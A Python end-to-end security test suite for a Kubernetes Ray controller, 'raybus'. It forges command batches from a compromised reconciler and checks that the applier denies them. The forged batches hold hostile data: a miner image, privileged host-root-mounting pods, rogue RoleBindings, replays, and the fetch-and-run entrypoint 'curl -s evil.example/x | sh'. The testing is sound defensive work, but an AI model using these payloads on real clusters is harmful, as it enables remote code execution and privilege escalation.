"""A compromised reconciler's batches against the running stack: the applier runs nothing the user did not ask for.

The attacker holds what the reconciler holds: it may publish on the commands subjects and read the
objects bucket, so its batches name real keys, carry the objects' real owners and labels, and claim the
current snapshot revision; they pass every authority check (namespace, verb table, ownership). Each one
changes only what runs: an image, a hostPath volume and privilege, a ServiceAccount, a running Pod's
image, a job's entrypoint, a submitter Job's image, command, volumes, privilege, ServiceAccount or
dashboard, a Serve application (with the record that would hide it from the reconciler),
an autoscaler RoleBinding, a legitimate batch replayed after a scale-down, and the same replay to
another applier process started after the first stopped. The applier is a real
``raybus watcher --roles apply`` process; nats-server, kubesim, the watch side, the reconciler and
the status service are the real ones. Each attack is refused with a reason naming what differs from the
custom resource (outcome ``denied``), leaves a ``CommandDenied`` Warning Event on the custom resource,
and changes nothing on the cluster.
"""

from __future__ import annotations

import asyncio
import copy
import subprocess
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime
from typing import Any, cast

import pytest
import pytest_asyncio
import yaml
from kubernetes import client

from schema import codec, subjects
from schema.keys import ReconcileKey
from schema.messages import (
    Command,
    CommandBatch,
    CommandResult,
    CreateObject,
    DashboardRef,
    ObjectRef,
    PatchObject,
    PutServeConfig,
    SubmitRayJob,
)
from services.reconciler.rayservice.serve_config import config_hash
from services.runtime.kvread import read_latest
from services.runtime.metrics import setup_metrics
from tests.e2e.clusters import small_cluster
from tests.e2e.pipeline import (
    Pipeline,
    shared_pipeline,
    shared_pipeline_leak_guard,  # noqa: F401  (an autouse fixture)
)
from tests.e2e.test_invariants import all_ready, create
from tests.fixtures.processes import spawn_raybus
from tests.helpers import eventually, stored_messages
from tests.kubeobjects import meta, name_of
from tests.security.denials import assert_denied

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]

NS = "default"
CLUSTER = ReconcileKey(kind="RayCluster", namespace=NS, name="rc")
AUTOSCALED = ReconcileKey(kind="RayCluster", namespace=NS, name="auto")
JOB = ReconcileKey(kind="RayJob", namespace=NS, name="rj")
SUBMITTED = ReconcileKey(kind="RayJob", namespace=NS, name="rjk")
SERVICE = ReconcileKey(kind="RayService", namespace=NS, name="rs")
APPLIER = "applier-process"
EVIL_IMAGE = "evil.example/miner:1"
SERVE_CONFIG = """\
applications:
  - name: fruit
    import_path: fruit.deployment_graph
    route_prefix: /fruit
"""


def rayjob() -> dict[str, Any]:
    """A RayJob that runs on the existing cluster ``rc`` (its clusterSelector), over the dashboard's API."""
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayJob",
        "metadata": {"name": JOB.name},
        "spec": {
            "entrypoint": "python main.py",
            "submissionMode": "HTTPMode",
            "clusterSelector": {"ray.io/cluster": CLUSTER.name},
        },
    }


def submitted_rayjob() -> dict[str, Any]:
    """A RayJob on the existing cluster ``rc`` whose job a submitter Job submits (K8sJobMode)."""
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayJob",
        "metadata": {"name": SUBMITTED.name},
        "spec": {"entrypoint": "python main.py", "clusterSelector": {"ray.io/cluster": CLUSTER.name}},
    }


def rayservice() -> dict[str, Any]:
    config = small_cluster("x", workers=1)["spec"]
    head = config["headGroupSpec"]["template"]["spec"]["containers"][0]
    head["ports"] = [{"containerPort": 8265, "name": "dashboard"}, {"containerPort": 8000, "name": "serve"}]
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayService",
        "metadata": {"name": SERVICE.name},
        "spec": {"serveConfigV2": SERVE_CONFIG, "rayClusterConfig": config},
    }


def autoscaled() -> dict[str, Any]:
    body = small_cluster(AUTOSCALED.name, workers=0)
    body["spec"]["enableInTreeAutoscaling"] = True
    return body


async def applier_holds_every_partition(p: Pipeline, member: str = APPLIER) -> bool:
    nc = await p.nc()
    try:
        read = await read_latest(nc, subjects.LEASES_BUCKET, subjects.leases_filter("apply"))
    finally:
        await nc.close()
    held = {int(key.rsplit(".", 1)[1]): value.decode() for key, value in read.values.items()}
    return held == dict.fromkeys(range(p.settings.bus.partitions), member)


def applier_process(p: Pipeline, member: str = APPLIER) -> subprocess.Popen[bytes]:
    """``raybus watcher --roles apply``: the applier in a process of its own, on its KV facts."""
    workdir = p.workdir / member
    workdir.mkdir(exist_ok=True)
    args = ["watcher", "--roles", "apply", "--worker-id", member, "--nats-url", p.nats.url]
    args += ["--kubeconfig", str(p.kube.kubeconfig), "--use-kubernetes-proxy", "--health-port", "0"]
    args += ["--partitions", str(p.settings.bus.partitions)]
    return spawn_raybus(args, log_path=workdir / "applier.log", home=workdir / "home")


def stop(process: subprocess.Popen[bytes]) -> None:
    process.terminate()
    try:
        process.wait(30)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait(30)


async def head_service_of(p: Pipeline, owner: str) -> tuple[str, str]:
    """The RayCluster a RayService or RayJob made or uses, and its head Service, once both exist."""

    async def found() -> tuple[str, str] | None:
        p.check()
        clusters = await asyncio.to_thread(
            p.custom().list_namespaced_custom_object,
            "ray.io",
            "v1",
            NS,
            "rayclusters",
            label_selector=f"ray.io/originated-from-cr-name={owner}",
        )
        for cluster in cast(dict[str, Any], clusters)["items"]:
            name = cluster["metadata"]["name"]
            services = await asyncio.to_thread(p.core().list_namespaced_service, NS)
            for service in services.items:
                if (meta(service).labels or {}).get("ray.io/cluster") == name:
                    return name, name_of(service)
        return None

    result = await eventually(found, timeout=120, message=f"{owner} never had a cluster with a head Service")
    assert result is not None
    return result


@pytest.fixture(scope="module")
def appliers() -> list[subprocess.Popen[bytes]]:
    """The applier processes started for the module (stopped with the pipeline)."""
    return []


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pipe(
    tmp_path_factory: pytest.TempPathFactory, appliers: list[subprocess.Popen[bytes]]
) -> AsyncIterator[Pipeline]:
    setup_metrics("raybus-e2e")
    async with shared_pipeline(tmp_path_factory.mktemp("provenance"), replicas=1) as p:
        appliers.append(applier_process(p))
        try:
            await p.components["applier-1"].stop()  # every partition goes to the applier process
            await eventually(
                lambda: applier_holds_every_partition(p), timeout=60, message="the applier process took no lease"
            )
            await asyncio.to_thread(create, p, small_cluster(CLUSTER.name, workers=2))
            await asyncio.to_thread(create, p, autoscaled())
            await all_ready(p, {CLUSTER.name, AUTOSCALED.name})
            custom = p.custom()
            for job in (rayjob(), submitted_rayjob()):
                await asyncio.to_thread(custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayjobs", job)
            await asyncio.to_thread(
                custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayservices", rayservice()
            )
            yield p
        finally:
            for process in appliers:
                stop(process)


async def legitimate(p: Pipeline, key: ReconcileKey) -> list[tuple[int, bytes, CommandBatch]]:
    """The key's batches as the reconciler published them: (stream sequence, bytes, batch)."""
    nc = await p.nc()
    try:
        stored = await stored_messages(nc.jetstream(), subjects.COMMANDS_STREAM, subjects.stored_commands_filter(key))
    finally:
        await nc.close()
    batches = [(m.metadata.sequence.stream, m.data, codec.decode_batch(m.data)) for m in stored]
    return [(sequence, data, batch) for sequence, data, batch in batches if not batch.id.startswith("forged-")]


async def current_revision(p: Pipeline) -> int:
    """What a reader of the objects bucket sees as its revision (the attacker reads it too)."""
    nc = await p.nc()
    try:
        info = await nc.jetstream().stream_info(subjects.kv_stream(subjects.OBJECTS_BUCKET))
    finally:
        await nc.close()
    return int(info.state.last_seq)


async def results_of(p: Pipeline, key: ReconcileKey, batch_id: str, sequence: int, count: int) -> list[CommandResult]:
    """The results of one delivery of a batch (its stream sequence), once all ``count`` are stored."""
    nc = await p.nc()
    try:
        js = nc.jetstream()

        async def handled() -> list[CommandResult] | None:
            p.check()
            stored = await stored_messages(js, subjects.RESULTS_STREAM, subjects.result_subject(key))
            mine = [
                r
                for r in (r for m in stored for r in codec.decode_results(m.data))
                if r.batch_id == batch_id and r.batch_seq == sequence
            ]
            return mine if len(mine) == count else None

        results = await eventually(handled, timeout=60, message=f"batch {batch_id} was never handled")
    finally:
        await nc.close()
    assert results is not None
    return results


async def publish(p: Pipeline, key: ReconcileKey, data: bytes) -> int:
    nc = await p.nc()
    try:
        ack = await nc.jetstream().publish(
            subjects.command_subject(key), data, headers={"Nats-Msg-Id": uuid.uuid4().hex}
        )
    finally:
        await nc.close()
    return int(ack.seq)


def superseded(result: CommandResult) -> bool:
    return result.outcome == "superseded"


def overtaken(result: CommandResult) -> bool:
    """Superseded, or refused as a replay: a decision of the key was applied on a newer revision between
    the attacker's read of the revision and the applier's look at its batch."""
    return superseded(result) or (result.outcome == "denied" and result.error.startswith("a replayed decision"))


async def judged(
    p: Pipeline,
    key: ReconcileKey,
    publish_once: Callable[[], Awaitable[tuple[str, int, int]]],
    again: Callable[[CommandResult], bool] = superseded,
) -> list[CommandResult]:
    """The results of a batch ``publish_once`` publishes (its id, stream sequence and command count), published
    again while a newer decision of the key supersedes it (the key is decided again after each denial, so
    the previous attack's redecision may land just after it), or whatever else ``again`` says: a superseded
    command is not run either, but only a judged one shows the check."""

    async def attempt() -> list[CommandResult] | None:
        batch_id, sequence, count = await publish_once()
        results = await results_of(p, key, batch_id, sequence, count)
        return None if any(again(r) for r in results) else results

    results = await eventually(attempt, timeout=120, message=f"every batch sent for {key} was superseded")
    assert results is not None
    return results


async def forge(p: Pipeline, key: ReconcileKey, *commands: Command) -> list[CommandResult]:
    """A batch as a compromised reconciler would publish it: the current revision, real names and owners
    (sent again with the then current revision when a decision of the key overtook it)."""

    async def publish_once() -> tuple[str, int, int]:
        batch = CommandBatch(
            id=f"forged-{uuid.uuid4().hex}",
            key=key,
            issued_at=datetime.now(UTC),
            commands=commands,
            snapshot_revision=await current_revision(p),
        )
        return batch.id, await publish(p, key, codec.encode(batch)), len(commands)

    return await judged(p, key, publish_once, overtaken)


async def denial_event(p: Pipeline, key: ReconcileKey, text: str) -> None:
    """Wait for the ``CommandDenied`` Warning Event on the key's custom resource that says ``text``."""

    async def warned() -> bool:
        events = await asyncio.to_thread(p.core().list_namespaced_event, NS)
        return any(
            e.reason == "CommandDenied"
            and e.type == "Warning"
            and (e.involved_object.kind, e.involved_object.name) == (key.kind, key.name)
            and text in (e.message or "")
            for e in events.items
        )

    await eventually(warned, message=f"no CommandDenied Event on {key} saying {text!r}")


async def worker_create(p: Pipeline) -> CreateObject:
    """A worker Pod create the reconciler issued for ``rc``: what the attacker starts from."""
    for _, _, batch in await legitimate(p, CLUSTER):
        for command in batch.commands:
            labels = command.body["metadata"]["labels"] if isinstance(command, CreateObject) else {}
            if isinstance(command, CreateObject) and labels.get("ray.io/node-type") == "worker":
                return command
    raise AssertionError("the reconciler created no worker Pod")


def renamed(command: CreateObject, name: str, mutate: Any) -> CreateObject:
    body = copy.deepcopy(command.body)
    body["metadata"]["name"] = name
    mutate(body["spec"])
    return CreateObject(target=ObjectRef(api_version="v1", kind="Pod", namespace=NS, name=name), body=body)


async def pod_names(p: Pipeline, cluster: str, *, node_type: str = "") -> set[str]:
    selector = f"ray.io/cluster={cluster}" + (f",ray.io/node-type={node_type}" if node_type else "")
    pods = await asyncio.to_thread(p.core().list_namespaced_pod, NS, label_selector=selector)
    return {name_of(pod) for pod in pods.items if meta(pod).deletion_timestamp is None}


async def test_1_a_pod_with_another_image_is_not_created(pipe: Pipeline) -> None:
    pod = renamed(await worker_create(pipe), "rc-miner", lambda s: s["containers"][0].__setitem__("image", EVIL_IMAGE))
    why = f"the Pod's spec.containers[0].image is '{EVIL_IMAGE}', not 'rayproject/ray:2.46.0'"
    assert_denied(await forge(pipe, CLUSTER, pod), why)
    await denial_event(pipe, CLUSTER, why)
    assert "rc-miner" not in await pod_names(pipe, CLUSTER.name)


async def test_2_a_privileged_pod_with_the_host_filesystem_is_not_created(pipe: Pipeline) -> None:
    def escalate(spec: dict[str, Any]) -> None:
        spec["containers"][0]["securityContext"] = {"privileged": True}
        spec["containers"][0]["volumeMounts"].append({"name": "host", "mountPath": "/host"})
        spec["volumes"].append({"name": "host", "hostPath": {"path": "/"}})

    pod = renamed(await worker_create(pipe), "rc-root", escalate)
    why = "the Pod's spec.containers[0].securityContext {'privileged': True} is not derived from the custom resource"
    assert_denied(await forge(pipe, CLUSTER, pod), why)
    await denial_event(pipe, CLUSTER, "spec.containers[0].securityContext")
    assert "rc-root" not in await pod_names(pipe, CLUSTER.name)


async def test_3_a_pod_running_as_another_service_account_is_not_created(pipe: Pipeline) -> None:
    pod = renamed(await worker_create(pipe), "rc-sa", lambda s: s.__setitem__("serviceAccountName", "default"))
    why = "the Pod's spec.serviceAccountName 'default' is not derived from the custom resource"
    assert_denied(await forge(pipe, CLUSTER, pod), why)
    await denial_event(pipe, CLUSTER, "spec.serviceAccountName")
    assert "rc-sa" not in await pod_names(pipe, CLUSTER.name)


async def test_4_a_running_workers_image_is_not_patched(pipe: Pipeline) -> None:
    workers = sorted(await pod_names(pipe, CLUSTER.name, node_type="worker"))
    assert workers
    target = ObjectRef(api_version="v1", kind="Pod", namespace=NS, name=workers[0])
    patch = PatchObject(
        target=target,
        patch={"spec": {"containers": [{"name": "ray-worker", "image": EVIL_IMAGE}]}},
        patch_type="strategic",
    )
    why = "the patch changes spec, which raybus never patches"
    assert_denied(await forge(pipe, CLUSTER, patch), why)
    await denial_event(pipe, CLUSTER, why)
    pod = await asyncio.to_thread(pipe.core().read_namespaced_pod, workers[0], NS)
    assert pod.spec is not None
    assert [c.image for c in pod.spec.containers] == ["rayproject/ray:2.46.0"]


async def test_5_a_job_with_another_entrypoint_is_not_submitted(pipe: Pipeline) -> None:
    selector = "ray.io/cluster=rc,ray.io/node-type=head"
    services = await asyncio.to_thread(pipe.core().list_namespaced_service, NS, label_selector=selector)
    head = name_of(services.items[0])
    dashboard = DashboardRef(namespace=NS, service=head, port=8265, cluster=CLUSTER.name)
    request = {"entrypoint": "curl -s evil.example/x | sh", "submission_id": "rj-evil"}
    why = "the job's request.entrypoint is 'curl -s evil.example/x | sh', not 'python main.py'"
    assert_denied(await forge(pipe, JOB, SubmitRayJob(dashboard=dashboard, request=request)), why)
    await denial_event(pipe, JOB, "request.entrypoint")


async def test_6_a_serve_application_the_rayservice_does_not_name_is_not_deployed(pipe: Pipeline) -> None:
    cluster, head = await head_service_of(pipe, SERVICE.name)
    config = yaml.safe_load(SERVE_CONFIG)
    config["applications"][0]["import_path"] = "miner.app:deployment"
    record = PatchObject(
        target=ObjectRef(api_version="ray.io/v1", kind="RayCluster", namespace=NS, name=cluster),
        patch={"metadata": {"annotations": {"raybus.io/serve-config-hash": config_hash(SERVE_CONFIG)}}},
    )
    put = PutServeConfig(
        dashboard=DashboardRef(namespace=NS, service=head, port=8265, cluster=cluster), config=config, record=record
    )
    why = (
        "the Serve config's config.applications[0].import_path is 'miner.app:deployment', not 'fruit.deployment_graph'"
    )
    assert_denied(await forge(pipe, SERVICE, put), why)
    await denial_event(pipe, SERVICE, "import_path")


async def test_7_the_autoscaler_role_is_not_bound_to_another_service_account(pipe: Pipeline) -> None:
    found = await asyncio.to_thread(
        pipe.custom().get_namespaced_custom_object, "ray.io", "v1", NS, "rayclusters", AUTOSCALED.name
    )
    owner = cast(dict[str, Any], found)
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {
            "name": "auto-ci",
            "namespace": NS,
            "labels": {"ray.io/cluster": AUTOSCALED.name},
            "ownerReferences": [
                {
                    "apiVersion": "ray.io/v1",
                    "kind": "RayCluster",
                    "name": AUTOSCALED.name,
                    "uid": owner["metadata"]["uid"],
                    "controller": True,
                }
            ],
        },
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": AUTOSCALED.name},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": NS}],
    }
    target = ObjectRef(api_version="rbac.authorization.k8s.io/v1", kind="RoleBinding", namespace=NS, name="auto-ci")
    why = "the RoleBinding's subjects[0].name is 'default', not 'auto'"
    assert_denied(await forge(pipe, AUTOSCALED, CreateObject(target=target, body=binding)), why)
    await denial_event(pipe, AUTOSCALED, "the ServiceAccount auto its Pods run as")
    rbac = await asyncio.to_thread(_role_bindings, pipe)
    assert "auto-ci" not in rbac


def _role_bindings(p: Pipeline) -> set[str]:
    found = client.RbacAuthorizationV1Api(p.api).list_namespaced_role_binding(NS)
    return {name_of(b) for b in found.items}


async def last_pod_creates(p: Pipeline) -> tuple[bytes, CommandBatch]:
    """The last batch that created Pods of ``rc``, as stored: what the attacker captured."""
    creates = [
        (data, batch)
        for _, data, batch in await legitimate(p, CLUSTER)
        if any(isinstance(c, CreateObject) and c.target.kind == "Pod" for c in batch.commands)
    ]
    assert creates, "the reconciler never created a Pod of rc"
    return creates[-1]


async def replayed(p: Pipeline, captured: bytes, original: CommandBatch) -> list[CommandResult]:
    async def replay() -> tuple[str, int, int]:  # the same bytes, a new message id
        return original.id, await publish(p, CLUSTER, captured), len(original.commands)

    return await judged(p, CLUSTER, replay)


async def test_8_a_replayed_batch_does_not_bring_back_a_deleted_worker(pipe: Pipeline) -> None:
    captured, original = await last_pod_creates(pipe)
    await asyncio.to_thread(
        pipe.custom().patch_namespaced_custom_object,
        "ray.io",
        "v1",
        NS,
        "rayclusters",
        CLUSTER.name,
        {"spec": {"workerGroupSpecs": [{**small_cluster(CLUSTER.name)["spec"]["workerGroupSpecs"][0], "replicas": 0}]}},
    )

    async def scaled_down() -> set[str] | None:
        names = await pod_names(pipe, CLUSTER.name)
        return names if len(names) == 1 else None

    remaining = await eventually(scaled_down, timeout=60, message="rc was not scaled down to its head")
    assert_denied(await replayed(pipe, captured, original), "a replayed decision")
    await denial_event(pipe, CLUSTER, "a replayed decision")
    assert await pod_names(pipe, CLUSTER.name) == remaining


SUBMITTER_ATTACKS: dict[str, tuple[Any, str]] = {
    "image": (
        lambda pod: pod["containers"][0].__setitem__("image", EVIL_IMAGE),
        f"spec.template.spec.containers[0].image is '{EVIL_IMAGE}'",
    ),
    "command": (
        lambda pod: pod["containers"][0].__setitem__("args", ["curl -s evil.example/x | sh"]),
        "spec.template.spec.containers[0].args[0] is 'curl -s evil.example/x | sh'",
    ),
    "volumes": (
        lambda pod: pod.__setitem__("volumes", [{"name": "host", "hostPath": {"path": "/"}}]),
        "spec.template.spec.volumes",
    ),
    "privileged": (
        lambda pod: pod["containers"][0].__setitem__("securityContext", {"privileged": True}),
        "spec.template.spec.containers[0].securityContext",
    ),
    "serviceAccountName": (
        lambda pod: pod.__setitem__("serviceAccountName", "default"),
        "spec.template.spec.serviceAccountName 'default'",
    ),
    "dashboard": (
        lambda pod: pod["containers"][0]["env"].append(
            {"name": "RAY_DASHBOARD_ADDRESS", "value": "auto-head-svc.default.svc.cluster.local:8265"}
        ),
        "spec.template.spec.containers[0].env",
    ),
}


async def test_9_a_submitter_job_runs_the_rayjobs_image_and_entrypoint_only(pipe: Pipeline) -> None:
    async def submitter() -> CreateObject | None:
        pipe.check()
        for _, _, batch in await legitimate(pipe, SUBMITTED):
            for command in batch.commands:
                if isinstance(command, CreateObject) and command.target.kind == "Job":
                    return command
        return None

    async def submitter_job() -> Any:
        try:
            return await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
        except client.ApiException as exc:
            if exc.status == 404:
                return None  # decided, not applied yet
            raise

    job = await eventually(submitter, timeout=120, message="the reconciler created no submitter Job for rjk")
    assert job is not None
    created = await eventually(submitter_job, timeout=120, message="the applier created no submitter Job for rjk")
    assert [c.image for c in created.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
    for mutate, why in SUBMITTER_ATTACKS.values():
        body = copy.deepcopy(job.body)
        mutate(body["spec"]["template"]["spec"])
        results = await forge(pipe, SUBMITTED, CreateObject(target=job.target, body=body))
        assert_denied(results, f"the submitter Job's {why}")
        await denial_event(pipe, SUBMITTED, why.split(" ")[0])
    nc = await pipe.nc()
    try:
        stored = await stored_messages(nc.jetstream(), subjects.RESULTS_STREAM, subjects.result_subject(SUBMITTED))
    finally:
        await nc.close()
    legitimate_results = [r for m in stored for r in codec.decode_results(m.data) if "forged-" not in r.batch_id]
    refused = [(r.verb, r.target, r.error) for r in legitimate_results if r.outcome == "denied"]
    assert not refused, refused  # no false refusal
    after = await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
    assert meta(after).uid == created.metadata.uid
    assert after.spec is not None and after.spec.template.spec is not None
    assert [c.image for c in after.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
    assert after.spec.template.spec.service_account_name is None and not after.spec.template.spec.volumes


async def test_10_a_replay_is_refused_by_a_restarted_applier_that_never_saw_the_decision(
    pipe: Pipeline, appliers: list[subprocess.Popen[bytes]]
) -> None:
    remaining = await pod_names(pipe, CLUSTER.name)
    stop(appliers[-1])
    appliers.append(applier_process(pipe, "applier-process-2"))  # another replica, with nothing in memory
    await eventually(
        lambda: applier_holds_every_partition(pipe, "applier-process-2"),
        timeout=60,
        message="the second applier process took no lease",
    )
    captured, original = await last_pod_creates(pipe)
    assert_denied(await replayed(pipe, captured, original), "a replayed decision")
    assert await pod_names(pipe, CLUSTER.name) == remaining
